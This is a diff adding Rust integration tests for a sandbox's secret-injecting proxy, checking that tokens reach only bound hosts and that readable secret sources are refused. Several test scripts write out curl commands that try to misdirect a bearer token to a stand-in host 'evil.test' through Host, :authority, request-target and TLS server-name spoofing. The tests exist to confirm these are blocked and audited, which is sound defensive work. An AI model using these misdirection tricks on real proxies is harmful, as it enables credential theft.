@@ -85,6 +85,17 @@ fn https_server(names: &[&str]) -> Server {
                     let first = req.lines().next().unwrap_or("").to_string();
                     let close = req.to_ascii_lowercase().contains("connection: close");
                     let conn_hdr = if close { "Connection: close\r\n" } else { "" };
+                    if first.contains(" /close10") {
+                        // HTTP/1.0 style: no length, the end of the body is the end of
+                        // the connection (closed without close_notify, as many servers do).
+                        let body = format!("ECHO<<{req}>>\n");
+                        let _ = s.write_all(
+                            format!("HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n{body}")
+                                .as_bytes(),
+                        );
+                        let _ = s.flush();
+                        return;
+                    }
                     let resp = if first.contains(" /repo.git") {
                         let body = "no such repository\n";
                         format!(
@@ -636,13 +647,14 @@ fn upstream_is_verified_never_weaker() {
 #[test]
 fn inject_needs_proxy_mode_and_hosts() {
     let ws = Ws::new();
-    std::fs::write(ws.join("token"), REAL).expect("token");
+    let vault = Ws::new();
+    std::fs::write(vault.join("token"), REAL).expect("token");
     let p = ws.join("bad.toml");
     std::fs::write(
         &p,
         format!(
             "extends = \"build\"\n[secrets.TOK]\nfrom = {{ file = \"{}\" }}\ndeliver = \"inject\"\nhosts = [\"api.test\"]\n",
-            ws.join("token").display()
+            vault.join("token").display()
         ),
     )
     .expect("profile");
@@ -661,4 +673,207 @@ fn inject_needs_proxy_mode_and_hosts() {
     let o = sh(ws.path(), p.to_str().expect("utf8"), &[], "true");
     assert!(!o.status.success());
     assert!(stderr(&o).contains("no `hosts`"), "{}", stderr(&o));
+}
+
+/// Rewrite a profile written by [`profile`]: `(from, to)` text replacements.
+fn edit(prof: &str, pairs: &[(&str, &str)]) {
+    let mut text = std::fs::read_to_string(prof).expect("profile");
+    for (a, b) in pairs {
+        assert!(text.contains(a), "{a} not in the profile");
+        text = text.replacen(a, b, 1);
+    }
+    std::fs::write(prof, text).expect("profile");
+}
+
+/// Issue 14.3, as the attack: inside a tunnel to the bound host, the cell names another
+/// host (Host, :authority, an absolute-form target, the TLS server name) to have the
+/// value sent where it says. Each is refused (403), audited, and the origin never gets
+/// the value.
+#[test]
+fn injected_value_stays_on_its_connect_host() {
+    let ws = Ws::new();
+    let srv = https_server(&["api.test", "evil.test"]);
+    let (hport, _) = http_server();
+    let (prof, _vault) = profile(&ws, &srv, hport, "env", "");
+    let port = srv.port;
+    let code = "-s -o /dev/null -w '%{http_code}'";
+    let script = format!(
+        r#"echo "PH=$TOK"
+echo "host: $(curl {code} --http1.1 -H "Host: evil.test" -H "Authorization: Bearer $TOK" "https://api.test:{port}/h")"
+echo "host-port: $(curl {code} --http1.1 -H "Host: api.test:1" -H "Authorization: Bearer $TOK" "https://api.test:{port}/p")"
+echo "authority: $(curl {code} --http2 -H "Host: evil.test" -H "Authorization: Bearer $TOK" "https://api.test:{port}/a")"
+echo "absolute: $(curl {code} --http1.1 --request-target "https://evil.test/x" -H "Authorization: Bearer $TOK" "https://api.test:{port}/t")"
+echo "sni: $(curl {code} -k --http1.1 --connect-to evil.test:{port}:api.test:{port} -H "Host: api.test" -H "Authorization: Bearer $TOK" "https://evil.test:{port}/s")"
+echo "sni2: $(curl {code} -k --http2 --connect-to evil.test:{port}:api.test:{port} -H "Authorization: Bearer $TOK" "https://evil.test:{port}/s2")"
+echo "right: $(curl {code} -H "Host: api.test:{port}" -H "Authorization: Bearer $TOK" "https://api.test:{port}/ok")"
+"#
+    );
+    let (o, audit) = run(&ws, &prof, &script);
+    let out = ok(&o);
+    for what in ["host", "host-port", "authority", "absolute", "sni", "sni2"] {
+        assert!(out.contains(&format!("{what}: 403")), "{what}:\n{out}");
+    }
+    assert!(out.contains("right: 200"), "{out}");
+    let seen = srv.seen.lock().expect("lock").join("\n----\n");
+    assert!(seen.contains("GET /ok "), "{seen}");
+    for path in ["/h ", "/p ", "/a ", "/x ", "/t ", "/s ", "/s2 "] {
+        assert!(!seen.contains(path), "{path} reached the origin:\n{seen}");
+    }
+    assert_eq!(seen.matches(REAL).count(), 1, "{seen}");
+    assert!(
+        audit.contains("\"event\":\"request_misdirected\""),
+        "{audit}"
+    );
+    assert!(audit.contains("\"where\":\"TLS server name\""), "{audit}");
+    assert!(audit.contains("\"where\":\"Host header\""), "{audit}");
+    assert!(audit.contains("\"where\":\":authority\""), "{audit}");
+    assert!(audit.contains("\"where\":\"request target\""), "{audit}");
+    assert!(!audit.contains(REAL), "{audit}");
+}
+
+/// `hosts = ["api.test:PORT"]` binds that port only: the same host on another port is
+/// an opaque tunnel, and gets the placeholder, never the value.
+#[test]
+fn a_port_in_the_binding_binds_that_port_only() {
+    let ws = Ws::new();
+    let srv = https_server(&["api.test"]);
+    let other = https_server(&["api.test"]);
+    let (hport, _) = http_server();
+    let (prof, _vault) = profile(&ws, &srv, hport, "env", "");
+    let (port, port2) = (srv.port, other.port);
+    std::fs::write(ws.join("other-ca.pem"), &other.ca_pem).expect("ca");
+    edit(
+        &prof,
+        &[
+            (
+                "hosts = [\"api.test\"]",
+                &format!("hosts = [\"api.test:{port}\"]"),
+            ),
+            (
+                "allow = [",
+                &format!("allow = [\"api.test:{port2}\", \"127.0.0.1:{port2}\", "),
+            ),
+        ],
+    );
+    let ca2 = ws.join("other-ca.pem");
+    let script = format!(
+        r#"echo "PH=$TOK"
+curl -sS --fail -H "X-T: $TOK" "https://api.test:{port}/bound" >/dev/null; echo "bound $?"
+curl -sS --fail --cacert {ca2} -H "X-T: $TOK" "https://api.test:{port2}/unbound" >/dev/null; echo "unbound $?"
+"#,
+        ca2 = ca2.display()
+    );
+    let (o, _) = run(&ws, &prof, &script);
+    let out = ok(&o);
+    let ph = placeholder(&out);
+    assert!(
+        out.contains("bound 0") && out.contains("unbound 0"),
+        "{out}"
+    );
+    let a = srv.seen.lock().expect("lock").join("\n");
+    let b = other.seen.lock().expect("lock").join("\n");
+    assert_eq!(header_lines(&a, "x-t", REAL), 1, "{a}");
+    assert_eq!(header_lines(&b, "x-t", &ph), 1, "{b}");
+    assert!(!b.contains(REAL), "the other port got the value:\n{b}");
+}
+
+/// Issue 14.4: an injected secret whose source the cell can read is refused at plan
+/// time (exit 125): a file inside the workspace (also through a symlink from outside),
+/// or its variable copied into the cell's environment with `{env:NAME}`.
+#[test]
+fn inject_source_the_cell_can_read_is_refused() {
+    let ws = Ws::new();
+    let vault = Ws::new();
+    std::fs::write(ws.join("token"), REAL).expect("token");
+    std::os::unix::fs::symlink(ws.join("token"), vault.join("link")).expect("symlink");
+    let p = ws.join("p.toml");
+    let write = |from: &str, extra: &str| {
+        std::fs::write(
+            &p,
+            format!(
+                "extends = \"build\"\n{extra}\n[network]\nmode = \"proxy\"\n[secrets.TOK]\nfrom = {from}\ndeliver = \"inject\"\nhosts = [\"api.test\"]\n"
+            ),
+        )
+        .expect("profile");
+    };
+    let refused = |what: &str| {
+        for sub in [&["run"][..], &["explain"][..]] {
+            let mut args = sub.to_vec();
+            args.extend(["-p", p.to_str().expect("utf8")]);
+            if sub[0] == "run" {
+                args.extend(["--", "/bin/true"]);
+            }
+            let o = taskcell(ws.path(), &args)
+                .env("GH_TOKEN", REAL)
+                .output()
+                .expect("taskcell");
+            let e = stderr(&o);
+            assert_eq!(o.status.code(), Some(125), "{what} {sub:?}: {e}");
+            assert!(e.contains("the cell could read the value"), "{what}: {e}");
+            assert!(!e.contains(REAL) && !stdout(&o).contains(REAL), "{e}");
+        }
+    };
+    write(
+        &format!("{{ file = \"{}\" }}", ws.join("token").display()),
+        "",
+    );
+    refused("a file in the workspace");
+    write(
+        &format!("{{ file = \"{}\" }}", vault.join("link").display()),
+        "",
+    );
+    refused("a symlink into the workspace");
+    write(
+        "{ env = \"GH_TOKEN\" }",
+        "[env]\nset = { COPY = \"x-{env:GH_TOKEN}\" }",
+    );
+    refused("a copy in the environment");
+    // Outside every path the cell sees, and not copied: accepted.
+    std::fs::write(vault.join("token"), REAL).expect("token");
+    write(
+        &format!("{{ file = \"{}\" }}", vault.join("token").display()),
+        "",
+    );
+    let o = taskcell(ws.path(), &["explain", "-p", p.to_str().expect("utf8")])
+        .output()
+        .expect("taskcell");
+    assert!(o.status.success(), "{}", stderr(&o));
+}
+
+/// Issue 14.7: HTTP/2 from the cell against an origin that answers HTTP/1.0 style (no
+/// length, then it closes the connection), chunked, and with a length; several streams
+/// on one connection, the origin's close in between.
+#[test]
+fn http2_against_close_delimited_chunked_and_length_origins() {
+    let ws = Ws::new();
+    let srv = https_server(&["api.test"]);
+    let (hport, _) = http_server();
+    let (prof, _vault) = profile(&ws, &srv, hport, "env", "");
+    let port = srv.port;
+    let script = format!(
+        r#"echo "PH=$TOK"
+curl -sS --fail --http2 -v -H "X-Key: $TOK" "https://api.test:{port}/close10" "https://api.test:{port}/chunked" "https://api.test:{port}/len" "https://api.test:{port}/close10b" 2>err; echo "curl $?"
+grep -c '^< HTTP/2 200' err
+grep -i 'INTERNAL_ERROR\|stream error' err; echo done
+"#
+    );
+    let (o, _) = run(&ws, &prof, &script);
+    let out = ok(&o);
+    let ph = placeholder(&out);
+    assert!(out.contains("curl 0"), "{out}");
+    assert!(
+        out.lines().any(|l| l == "4"),
+        "four HTTP/2 responses:\n{out}"
+    );
+    assert!(!out.contains("INTERNAL_ERROR"), "{out}");
+    for p in ["/close10 ", "/chunked ", "/len ", "/close10b "] {
+        assert!(
+            out.contains(&format!("ECHO<<GET {p}HTTP/1.1")),
+            "{p}:\n{out}"
+        );
+    }
+    assert_eq!(header_lines(&out, "x-key", &ph), 4, "{out}");
+    assert!(!out.contains(REAL), "{out}");
+    let seen = srv.seen.lock().expect("lock").join("\n");
+    assert_eq!(header_lines(&seen, "x-key", REAL), 4, "{seen}");
 }
